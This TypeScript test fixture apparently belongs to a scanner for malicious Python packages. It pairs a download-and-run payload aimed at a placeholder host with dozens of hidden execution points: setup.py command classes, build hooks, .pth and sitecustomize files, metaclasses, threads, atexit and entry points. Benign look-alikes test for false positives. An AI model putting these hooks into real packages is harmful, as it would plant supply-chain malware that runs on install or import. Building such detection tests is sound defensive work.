import type { Level } from '../../src/model/level.js';
import type { When } from '../../src/model/profile.js';
import { sdist } from '../support/sdist.js';
import { type Files, wheel } from '../support/wheel.js';
import { indented, type Replay, sourceUpdate, update } from './releases.js';

/** One way in which code of a distribution gains execution, with a download that is run there. */
export interface SurfaceRow {
  readonly name: string;
  readonly replay: Replay;
  /** `when kind: beginning of its text`; null where only the call graph shows it. */
  readonly surface: string | null;
  /** The most urgent moment at which the download is run. */
  readonly when: When;
  /** What `download-and-run` makes of it; null for tests and docs, of which only the outline is read. */
  readonly level: Level | null;
}

const URL = 'https://files.example.invalid/tool.pyz';
const IMPORTS = 'import subprocess, sys, urllib.request\n';
const ACT = `urllib.request.urlretrieve("${URL}", "/tmp/tool.pyz")\nsubprocess.run([sys.executable, "/tmp/tool.pyz"])\n`;
/** At the top of a file. */
const TOP = IMPORTS + ACT;
/** In a function that waits to be called. */
const FUNCTION = `${IMPORTS}def act(*args, **kwargs):\n${indented(ACT)}    return args[0] if args else None\n`;

const SETUP = 'from setuptools import setup\nsetup(name="demo")\n';

const install = (name: string, files: Files, surface: string): SurfaceRow => ({
  name,
  replay: sourceUpdate(files),
  surface,
  when: 'install',
  level: 'block',
});

const command = (base: string): string =>
  `${IMPORTS}from setuptools import setup\nfrom setuptools.command.${base} import ${base} as _base\nclass Mine(_base):\n    def run(self):\n${indented(indented(ACT))}        _base.run(self)\nsetup(name="demo", cmdclass={"${base}": Mine})\n`;

const pyproject = (text: string): string => `[build-system]\nrequires = []\n${text}`;

const INSTALL: readonly SurfaceRow[] = [
  install('setup.py, top level', { 'setup.py': TOP + SETUP }, 'install setup-py: setup.py'),
  install(
    'setup.py, a helper that it calls',
    { 'setup.py': `${FUNCTION}act()\n${SETUP}` },
    'install setup-py: setup.py',
  ),
  install(
    'setup.py, a helper file that it imports',
    { 'setup.py': `import build_helper\n${SETUP}`, 'build_helper.py': TOP },
    'install setup-py: setup.py',
  ),
  install(
    'setup.py, under its main guard',
    { 'setup.py': `${FUNCTION}if __name__ == "__main__":\n    act()\n    ${SETUP.replace('\n', '\n    ')}\n` },
    'install setup-py: setup.py',
  ),
  ...['install', 'develop', 'egg_info', 'build_py', 'sdist'].map((base) =>
    install(`setup.py, command class ${base}`, { 'setup.py': command(base) }, 'install setup-py: setup.py'),
  ),
  install(
    'a backend in the tree',
    {
      'pyproject.toml': pyproject('build-backend = "own"\nbackend-path = ["_build"]\n'),
      '_build/own.py': FUNCTION.replace('act(', 'build_wheel('),
    },
    'install build-backend: build-backend = "own"',
  ),
  install(
    'a backend in the tree, as a package',
    {
      'pyproject.toml': pyproject('build-backend = "own.api:backend"\nbackend-path = ["."]\n'),
      'own/__init__.py': '',
      'own/api.py': `${FUNCTION}class backend:\n    build_wheel = act\n`,
    },
    'install build-backend: build-backend = "own.api:backend"',
  ),
  install(
    'a build hook of hatchling',
    {
      'pyproject.toml': pyproject('build-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n'),
      'hatch_build.py': `${IMPORTS}from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n${indented(indented(ACT))}`,
    },
    'install build-hook: hatch: hatch_build.py',
  ),
  install(
    'a metadata hook of hatchling under another name',
    {
      'pyproject.toml': pyproject(
        'build-backend = "hatchling.build"\n[tool.hatch.metadata.hooks.custom]\npath = "meta/hook.py"\n',
      ),
      'meta/hook.py': FUNCTION,
    },
    'install build-hook: hatch: meta/hook.py',
  ),
  install(
    'pdm_build.py',
    {
      'pyproject.toml': pyproject('build-backend = "pdm.backend"\n'),
      'pdm_build.py': FUNCTION.replace('act(', 'pdm_build_initialize('),
    },
    'install build-hook: pdm: pdm_build.py',
  ),
  install(
    'a build script of Poetry',
    {
      'pyproject.toml': pyproject(
        'build-backend = "poetry.core.masonry.api"\n[tool.poetry.build]\nscript = "build.py"\n',
      ),
      'build.py': `${FUNCTION}act()\n`,
    },
    'install build-hook: poetry: build.py',
  ),
  install(
    'setup.cfg reads its version with attr:',
    {
      'setup.cfg': '[metadata]\nname = demo\nversion = attr: demo._version.VERSION\n',
      'demo/_version.py': `${TOP}VERSION = get()\n`,
    },
    'install build-hook: setuptools: demo/_version.py',
  ),
  install(
    'pyproject.toml reads its version with attr',
    {
      'pyproject.toml': pyproject(
        'build-backend = "setuptools.build_meta"\n[tool.setuptools.dynamic]\nversion = {attr = "demo.VERSION"}\n',
      ),
      'demo/__init__.py': `${TOP}VERSION = get()\n`,
    },
    'install build-hook: setuptools: demo/__init__.py',
  ),
];

const startup = (name: string, files: Files, surface: string): SurfaceRow => ({
  name,
  replay: update(files),
  surface,
  when: 'startup',
  level: 'block',
});

const ONE_LINE = `import subprocess, sys, urllib.request; urllib.request.urlretrieve("${URL}", "/tmp/tool.pyz"); subprocess.run([sys.executable, "/tmp/tool.pyz"])\n`;

const STARTUP: readonly SurfaceRow[] = [
  startup('a .pth at the root', { 'demo.pth': ONE_LINE }, 'startup pth: import subprocess'),
  startup(
    'a .pth in .data/purelib',
    { 'demo-1.0.0.data/purelib/demo.pth': ONE_LINE },
    'startup pth: import subprocess',
  ),
  startup(
    'a .pth in .data/platlib',
    { 'demo-1.0.0.data/platlib/demo.pth': ONE_LINE },
    'startup pth: import subprocess',
  ),
  startup(
    'a .pth by way of .data/data',
    { 'demo-1.0.0.data/data/lib/python3.12/site-packages/demo.pth': ONE_LINE },
    'startup pth: import subprocess',
  ),
  startup(
    'a module that a .pth imports',
    { 'demo.pth': 'import demo.boot\n', 'demo/boot.py': TOP },
    'startup pth: import demo.boot',
  ),
  startup(
    'a .start file',
    { 'demo.start': 'demo.boot:act\n', 'demo/boot.py': FUNCTION },
    'startup start: demo.boot:act',
  ),
  startup('sitecustomize', { 'sitecustomize.py': TOP }, 'startup sitecustomize: sitecustomize.py'),
  startup(
    'usercustomize in .data/purelib',
    { 'demo-1.0.0.data/purelib/usercustomize.py': TOP },
    'startup sitecustomize: usercustomize.py',
  ),
];

const imported = (name: string, source: string): SurfaceRow => ({
  name,
  replay: update({ 'demo/__init__.py': source }),
  surface: 'import package-init: import demo',
  when: 'import',
  level: 'block',
});

const IMPORT: readonly SurfaceRow[] = [
  imported('a package body', TOP),
  { ...imported('any module', ''), replay: update({ 'demo/deep/mod.py': TOP }) },
  {
    ...imported('a new module at the top', ''),
    replay: update({ 'extra.py': TOP }),
    surface: 'import package-init: import extra',
  },
  imported('a function called under a condition', `${FUNCTION}if sys.platform == "linux":\n    act()\n`),
  imported('a decorator', `${FUNCTION}@act\ndef task():\n    pass\n`),
  imported(
    'a decorator with arguments',
    `${IMPORTS}def on(name):\n    def wrap(f):\n${indented(indented(ACT))}        return f\n    return wrap\n@on("x")\ndef task():\n    pass\n`,
  ),
  imported('a class body', `${IMPORTS}class Task:\n${indented(ACT)}    name = "x"\n`),
  imported('a default argument', `${FUNCTION}def task(value=act()):\n    return value\n`),
  imported(
    'a metaclass',
    `${IMPORTS}class Meta(type):\n    def __new__(cls, name, bases, space):\n${indented(indented(ACT))}        return super().__new__(cls, name, bases, space)\nclass Task(metaclass=Meta):\n    pass\n`,
  ),
  imported(
    '__init_subclass__',
    `${IMPORTS}class Base:\n    def __init_subclass__(cls, **kwargs):\n${indented(indented(ACT))}class Task(Base):\n    pass\n`,
  ),
  imported(
    'an instance made at module level',
    `${IMPORTS}class Task:\n    def __init__(self):\n${indented(indented(ACT))}task = Task()\n`,
  ),
  imported(
    '__getattr__ of the module',
    `${IMPORTS}def __getattr__(name):\n${indented(ACT)}    raise AttributeError(name)\n`,
  ),
  imported('a thread', `import threading\n${FUNCTION}threading.Thread(target=act, daemon=True).start()\n`),
  imported(
    'a subclass of Thread',
    `import threading\n${IMPORTS}class T(threading.Thread):\n    def run(self):\n${indented(indented(ACT))}T().start()\n`,
  ),
  imported('a timer', `import threading\n${FUNCTION}threading.Timer(30, act).start()\n`),
  imported('atexit', `import atexit\n${FUNCTION}atexit.register(act)\n`),
  imported('atexit as a decorator', `import atexit\n${IMPORTS}@atexit.register\ndef act():\n${indented(ACT)}`),
  imported('a signal handler', `import signal\n${FUNCTION}signal.signal(signal.SIGTERM, act)\n`),
  imported(
    'an executor',
    `from concurrent.futures import ThreadPoolExecutor\n${FUNCTION}ThreadPoolExecutor().submit(act)\n`,
  ),
  imported('asyncio.run', `import asyncio\n${IMPORTS}async def act():\n${indented(ACT)}asyncio.run(act())\n`),
  imported(
    'a finder on sys.meta_path',
    `${IMPORTS}class Finder:\n    def __init__(self):\n        self.seen = []\n    def find_spec(self, name, path=None, target=None):\n${indented(indented(ACT))}        return None\nsys.meta_path.insert(0, Finder())\n`,
  ),
  imported('an audit hook', `${FUNCTION}sys.addaudithook(act)\n`),
  imported('a codec', `import codecs\n${FUNCTION}codecs.register(act)\n`),
];

const RUN: readonly SurfaceRow[] = [
  {
    name: 'a console script',
    replay: update({ 'demo/cli.py': FUNCTION }, {}, { entryPoints: '[console_scripts]\ndemo = demo.cli:act\n' }),
    surface: 'command console-script: demo = demo.cli:act',
    when: 'command',
    level: 'warn',
  },
  {
    name: 'a script file',
    replay: update({ 'demo-1.0.0.data/scripts/demo-run': `#!python\n${TOP}` }),
    surface: 'command script-file: demo-run sha256:',
    when: 'command',
    level: 'warn',
  },
  {
    name: '__main__',
    replay: update({ 'demo/__main__.py': TOP }),
    surface: null,
    when: 'command',
    level: 'warn',
  },
  ...['pytest11', 'flake8.extension', 'distutils.commands', 'keyring.backends'].map(
    (group): SurfaceRow => ({
      name: `a plugin of ${group}`,
      replay: update({ 'demo/plug.py': FUNCTION }, {}, { entryPoints: `[${group}]\ndemo = demo.plug:act\n` }),
      surface: `plugin plugin-entry-point: [${group}] demo = demo.plug:act`,
      when: 'plugin',
      level: 'block',
    }),
  ),
  {
    name: 'a function that waits for a caller',
    replay: update({ 'demo/a.py': FUNCTION }),
    surface: null,
    when: 'call',
    level: 'warn',
  },
  { name: 'tests', replay: update({ 'demo/tests/test_a.py': TOP }), surface: null, when: 'test', level: null },
  { name: 'documentation', replay: sourceUpdate({ 'docs/conf.py': TOP }), surface: null, when: 'test', level: null },
  { name: 'examples', replay: sourceUpdate({ 'examples/run.py': TOP }), surface: null, when: 'test', level: null },
];

/** Every surface whose code a reader of Python sees. */
export const SURFACES: readonly SurfaceRow[] = [...INSTALL, ...STARTUP, ...IMPORT, ...RUN];

const ordinary = (name: string, source: string) => ({ name, replay: update({ 'demo/__init__.py': source }) });

/** The same places with what ordinary projects put there. */
export const ORDINARY: readonly { readonly name: string; readonly replay: Replay }[] = [
  {
    name: 'a setup.py that asks a compiler',
    replay: sourceUpdate({ 'setup.py': `import subprocess\nsubprocess.check_output(["gcc", "--version"])\n${SETUP}` }),
  },
  {
    name: 'a build hook that writes a version file',
    replay: {
      base: [wheel({}, { version: '0.9.0' }), sdist({}, { version: '0.9.0' })],
      head: [
        wheel(),
        sdist({
          'pyproject.toml': pyproject('build-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n'),
          'hatch_build.py':
            'from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        with open("demo/_version.py", "w") as f:\n            f.write(version)\n',
        }),
      ],
    },
  },
  {
    name: 'a version read with attr:',
    replay: sourceUpdate({ 'setup.cfg': '[metadata]\nversion = attr: demo.__version__\n' }),
  },
  { name: 'a .pth that adds a folder', replay: update({ 'demo.pth': 'demo/vendor\n' }) },
  ordinary(
    'a registry filled by decorators',
    'KNOWN = {}\ndef on(f):\n    KNOWN[f.__name__] = f\n    return f\n@on\ndef task():\n    pass\n',
  ),
  ordinary(
    'a thread that waits',
    'import threading, time\ndef beat():\n    while True:\n        time.sleep(60)\nthreading.Thread(target=beat, daemon=True).start()\n',
  ),
  ordinary('an exit handler that closes a log', 'import atexit, logging\natexit.register(logging.shutdown)\n'),
  ordinary(
    'lazy names',
    'import importlib\ndef __getattr__(name):\n    if name == "extra":\n        return importlib.import_module("demo.extra")\n    raise AttributeError(name)\n',
  ),
  {
    name: 'a lazy name of a function that fetches',
    replay: update({
      'demo/__init__.py':
        'def __getattr__(name):\n    if name == "fetch":\n        from demo.net import fetch\n        return fetch\n    raise AttributeError(name)\n',
      'demo/net.py': 'import requests\ndef fetch(url):\n    return requests.get(url)\n',
    }),
  },
  ordinary('a codec of its own', 'import codecs\ndef search(name):\n    return None\ncodecs.register(search)\n'),
  ordinary('a class made with exec, as dataclasses do', 'SPACE = {}\nexec("class Point:\\n    pass", SPACE)\n'),
  {
    name: 'a console script that runs git',
    replay: update(
      { 'demo/cli.py': 'import subprocess\ndef main():\n    subprocess.run(["git", "log"])\n' },
      {},
      { entryPoints: '[console_scripts]\ndemo = demo.cli:main\n' },
    ),
  },
  { name: 'tests that start programs', replay: sourceUpdate({ 'tests/test_a.py': TOP }) },
];
